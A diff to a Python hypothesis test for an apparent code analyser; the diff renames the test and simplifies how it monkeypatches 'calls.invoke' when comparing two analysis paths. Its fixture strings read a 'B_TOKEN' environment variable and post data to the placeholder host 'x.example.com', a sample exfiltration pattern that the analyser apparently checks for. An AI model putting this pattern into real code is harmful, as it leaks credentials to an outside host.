@@ -302,15 +302,11 @@ SENT = "requests.post('https://x.example.com', data=[a, b, x, y])"
 @given(st.lists(st.sampled_from(CALLS), min_size=2, max_size=9).map(lambda lines: "\n".join([*lines, SENT])))
 @example(f"import demo\ny = demo.go(k=os.getenv('B_TOKEN'))\n{SENT}")
 @example(f"y = v.go(os.getenv('B_TOKEN'))\n{SENT}")
-def test_a_call_without_its_record_gives_the_same(text: str) -> None:
-    def invoked(*given: object) -> object:
-        frame, *rest = given
-        return calls.invoke(frame, calls.Call(*rest))  # type: ignore[arg-type]
-
+def test_a_call_on_the_short_way_gives_the_same(text: str) -> None:
     view = view_of(text, "run.py", ())
     outcome = interpreter.analyse((view,), 100_000).analysis
     with pytest.MonkeyPatch.context() as patch:
-        patch.setattr(calls, "called", invoked)
+        patch.setattr(calls, "called", calls.invoke)
         slow = interpreter.analyse((view,), 100_000).analysis
     assert outcome.hits == slow.hits
     assert outcome.capabilities == slow.capabilities
